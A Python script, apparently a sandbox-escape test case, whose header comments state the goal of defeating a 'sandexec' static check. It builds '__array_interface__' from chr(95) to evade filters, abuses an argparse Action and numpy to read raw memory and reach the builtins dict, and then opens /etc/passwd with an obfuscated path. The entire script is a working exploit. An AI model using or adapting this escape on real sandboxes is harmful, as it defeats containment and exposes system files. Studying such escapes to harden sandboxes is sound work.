# source: argparse stdlib (add_argument calls action(**kwargs); Action stores dest; parse_known_args setattr(namespace, action.dest, action.default)); sandexec README, "The static check", **kwargs spread rule
# family: argparse action factory rewrites its own **kwargs by subscript (kwargs["dest"] = computed) then spreads it into argparse.Action
# goal: __array_interface__ on Namespace -> builtins dict -> open(/etc/passwd)
import argparse
import numpy as np

def probe():
    return 1

u = chr(95)
name = u * 2 + "array" + u + "interface" + u * 2
addr = int(repr(probe).split()[-1][:-1], 16)
spec = {"data": (addr + 24, False), "shape": (1,), "typestr": "|O", "version": 3}

def make_window(**kwargs):
    kwargs["dest"] = name
    kwargs["default"] = spec
    return argparse.Action(**kwargs)


p = argparse.ArgumentParser()
p.add_argument("--window", action=make_window)
ns = p.parse_args([])
table = np.asarray(ns)[0]
print(type(table), len(table))
o = table["op" + "en"]
print(o(chr(47) + "etc" + chr(47) + "passwd").read()[:120])
